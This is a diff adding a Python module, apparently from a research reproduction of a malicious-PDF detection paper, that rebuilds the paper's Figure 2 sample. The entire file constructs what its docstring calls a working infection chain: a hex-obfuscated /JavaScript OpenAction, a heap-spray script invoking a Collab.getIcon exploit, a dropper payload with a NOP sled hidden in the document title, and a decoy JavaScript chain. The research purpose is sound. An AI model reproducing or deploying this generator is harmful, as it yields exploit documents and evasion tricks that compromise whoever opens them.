@@ -1,0 +1,129 @@
+"""The paper's Figure 2 — "A Synthetic Sample of Malicious PDF".
+
+Reconstructs the exact document the paper uses to illustrate chain
+reconstruction and the static features: ten indirect objects, a
+triggered chain whose action spells ``/JavaScript`` with a ``#xx``
+escape (object 4), the real script hiding its shellcode in the
+document title ("this.info.title" — the extraction evasion §II calls
+out), and a decoy JavaScript chain terminating in an empty object
+(object 9).
+"""
+
+from __future__ import annotations
+
+import random
+
+from repro.corpus import js_snippets as js
+from repro.pdf.document import PDFDocument
+from repro.pdf.objects import (
+    IndirectObject,
+    ObjectStore,
+    PDFArray,
+    PDFDict,
+    PDFName,
+    PDFRef,
+    PDFStream,
+    PDFString,
+)
+from repro.reader.exploits import CVE
+from repro.reader.payload import Payload
+
+
+def figure2_sample(spray_mb: int = 150, seed: int = 40) -> bytes:
+    """Build the Figure 2 document (a working infection chain)."""
+    rng = random.Random(seed)
+    payload = Payload.dropper()
+
+    store = ObjectStore()
+
+    def add(num: int, value) -> PDFRef:
+        return store.add(IndirectObject(num, 0, value))
+
+    catalog = PDFDict(
+        {
+            PDFName("Type"): PDFName("Catalog"),
+            PDFName("Pages"): PDFRef(2, 0),
+            PDFName("OpenAction"): PDFRef(4, 0),
+            PDFName("Names"): PDFRef(7, 0),
+        }
+    )
+    add(1, catalog)
+    add(
+        2,
+        PDFDict(
+            {
+                PDFName("Type"): PDFName("Pages"),
+                PDFName("Kids"): PDFArray([PDFRef(3, 0)]),
+                PDFName("Count"): 1,
+            }
+        ),
+    )
+    add(
+        3,
+        PDFDict(
+            {
+                PDFName("Type"): PDFName("Page"),
+                PDFName("Parent"): PDFRef(2, 0),
+                PDFName("MediaBox"): PDFArray([0, 0, 612, 792]),
+            }
+        ),
+    )
+    # Object (4 0): the triggered action, keyword hex-obfuscated —
+    # "/JavaScript is encoded as /JavaScr##69pt" in the paper's text.
+    action = PDFDict(
+        {
+            PDFName("S"): PDFName.from_raw("JavaScr#69pt"),
+            PDFName.from_raw("#4a#53"): PDFRef(5, 0),  # /JS
+        }
+    )
+    add(4, action)
+    # Object (5 0): the real script; the shellcode lives in the title.
+    code = js.spray_script(
+        spray_mb,
+        payload,
+        rng=rng,
+        exploit_call=js.exploit_call_for(CVE.COLLAB_GET_ICON, rng),
+        hide_payload_in_title=True,
+    )
+    script_stream = PDFStream()
+    script_stream.set_decoded_data(code.encode("latin-1", "replace"), ["FlateDecode"])
+    add(5, script_stream)
+    # Object (6 0): the decoy chain "ends with an empty object.
+    # Actually the real malicious Javascript is embedded in another
+    # chain." (paper, Figure 2 discussion)
+    add(
+        6,
+        PDFDict(
+            {
+                PDFName("S"): PDFName("JavaScript"),
+                PDFName("JS"): PDFString(b""),
+                PDFName("Next"): PDFRef(9, 0),
+            }
+        ),
+    )
+    add(7, PDFDict({PDFName("JavaScript"): PDFRef(8, 0)}))
+    add(
+        8,
+        PDFDict(
+            {PDFName("Names"): PDFArray([PDFString(b"decoy"), PDFRef(6, 0)])}
+        ),
+    )
+    add(9, PDFDict())  # the empty terminator
+    # Object (10 0): /Info with the shellcode-bearing title.
+    title = payload.with_sled(32)
+    add(
+        10,
+        PDFDict(
+            {
+                PDFName("Title"): PDFString(
+                    b"\xfe\xff" + title.encode("utf-16-be")
+                ),
+                PDFName("Producer"): PDFString(b"Exploit Builder 2.1"),
+            }
+        ),
+    )
+
+    document = PDFDocument(store=store)
+    document.trailer[PDFName("Root")] = PDFRef(1, 0)
+    document.trailer[PDFName("Info")] = PDFRef(10, 0)
+    return document.to_bytes()
